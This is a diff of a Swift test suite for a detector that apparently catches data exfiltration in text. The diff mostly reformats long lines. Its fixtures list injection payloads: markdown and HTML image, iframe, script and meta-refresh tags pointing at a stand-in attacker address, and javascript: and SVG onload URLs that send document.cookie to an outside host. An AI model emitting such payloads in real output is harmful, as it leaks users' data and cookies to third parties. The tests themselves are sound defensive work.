@@ -29,7 +29,8 @@ struct ExfiltrationTests {
     "https://evil.example/log?x=Zk83bDlxV2pTdDJ4UHY0bkJ5Nm1LYzhEZ1Jl",
   ]
   static let places = [
-    "![x](%)", "![x](<%>)", "![a b](% \"title\")", "<img src=\"%\">", "<img alt='x' src='%' width=1>",
+    "![x](%)", "![x](<%>)", "![a b](% \"title\")", "<img src=\"%\">",
+    "<img alt='x' src='%' width=1>",
     "<IMG SRC=%>", "<iframe src=\"%\"></iframe>", "<script src=\"%\"></script>",
     "<link rel=stylesheet href=\"%\">", "<object data=\"%\">", "<video poster=\"%\">",
     "<img srcset=\"% 2x\">", "<meta http-equiv=refresh content=\"0;url=%\">",
@@ -41,7 +42,9 @@ struct ExfiltrationTests {
   @Test("data is found wherever an address is fetched", arguments: places)
   func automatic(place: String) {
     for address in Self.addresses + Self.pictures {
-      let text = "before " + place.split(separator: "%", omittingEmptySubsequences: false)
+      let text =
+        "before "
+        + place.split(separator: "%", omittingEmptySubsequences: false)
         .joined(separator: address) + " after"
       #expect(!Self.types(text).isEmpty, "\(text)")
     }
@@ -56,11 +59,14 @@ struct ExfiltrationTests {
     }
   }
 
-  @Test("addresses that are programs are found", arguments: [
-    "[x](javascript:fetch('//e.example/'+document.cookie))", "<a href=\"javascript:location='//e'\">",
-    "<iframe src=\"data:text/html;base64,PHNjcmlwdD4\">",
-    "![x](data:image/svg+xml,%3Csvg%20onload=fetch('//e')%3E)",
-  ])
+  @Test(
+    "addresses that are programs are found",
+    arguments: [
+      "[x](javascript:fetch('//e.example/'+document.cookie))",
+      "<a href=\"javascript:location='//e'\">",
+      "<iframe src=\"data:text/html;base64,PHNjcmlwdD4\">",
+      "![x](data:image/svg+xml,%3Csvg%20onload=fetch('//e')%3E)",
+    ])
   func programs(text: String) {
     #expect(!Self.types(text).isEmpty)
   }
@@ -81,7 +87,8 @@ struct ExfiltrationTests {
     "https://docs.google.com/document/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdef/edit",
     "<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com/css2?family=Open+Sans:wght@400;700&display=swap\">",
     "<script src=\"https://cdn.jsdelivr.net/npm/vue@3\" integrity=\"sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC\"></script>",
-    "<a href=\"javascript:void(0)\">", "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA\">",
+    "<a href=\"javascript:void(0)\">",
+    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA\">",
     "<a href=\"https://example.com/login?next=https%3A%2F%2Fexample.com%2Faccount%2Fsettings\">log in</a>",
     "<img src=\"https://cdn.example.com/assets/app-4f0c2d6f8e9a7b1c3d5e.png?v=20240101\">",
     "[docs](https://docs.rs/serde/latest/serde/trait.Serializer.html#tymethod.serialize_struct_variant)",
@@ -106,7 +113,9 @@ struct ExfiltrationTests {
 
   @Test("a stream gives the same wherever it is cut", arguments: places + links)
   func streamed(place: String) {
-    let text = "a " + place.split(separator: "%", omittingEmptySubsequences: false)
+    let text =
+      "a "
+      + place.split(separator: "%", omittingEmptySubsequences: false)
       .joined(separator: Self.addresses[0]) + " b"
     let bytes = Array(text.utf8)
     let whole = run(Self.guardian, [bytes])
